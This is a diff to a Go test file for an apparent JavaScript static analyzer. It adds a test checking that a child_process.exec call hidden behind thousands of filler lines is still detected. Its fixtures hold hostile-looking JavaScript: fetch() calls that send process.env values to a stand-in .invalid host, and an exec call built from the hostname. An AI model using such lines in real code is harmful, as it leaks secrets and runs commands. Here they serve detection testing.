@@ -68,7 +68,8 @@ func checkFacts(t *testing.T, f *File, lines int) {
 			at("a call", code.Place{}, g)
 		}
 	}
-	if len(f.Uses) > 2*maxUses || len(f.Flows) > 2*maxFlows {
+	const kinds = 100 // of each of which one is kept in any case
+	if len(f.Uses) > 2*maxUses+kinds || len(f.Flows) > 2*maxFlows+kinds*kinds {
 		t.Errorf("%d uses, %d flows", len(f.Uses), len(f.Flows))
 	}
 }
@@ -173,5 +174,21 @@ func TestHugeFiles(t *testing.T) {
 		"generators":             repeated(2_000, "function* g$() { yield* g$1(); yield process.env; }") + "for (const x of g0()) fetch(x);",
 	} {
 		t.Run(name, func(t *testing.T) { within(t, 3*time.Second, text+last) })
+	}
+}
+
+// TestNothingHidesBehindMuch puts one thing that matters behind very much that
+// does not.
+func TestNothingHidesBehindMuch(t *testing.T) {
+	f := within(t, 3*time.Second, repeated(5_000, "fetch('https://a$.invalid/' + process.env.A$); require('./m$');")+
+		"require('payload'); require('child_process').exec('zz ' + require('os').hostname());\nprocess.abort();\n")
+	facts := told(f)
+	for _, want := range []string{`use exec child_process.exec "zz …"`, `flow host -> exec child_process.exec command "zz …"`} {
+		if !facts[want] {
+			t.Errorf("%s is not kept", want)
+		}
+	}
+	if !slices.ContainsFunc(f.Imports, func(i Import) bool { return i.Spec == "payload" }) || f.Partial == "" {
+		t.Errorf("the import is not kept, or nobody says that others are not: %q", f.Partial)
 	}
 }
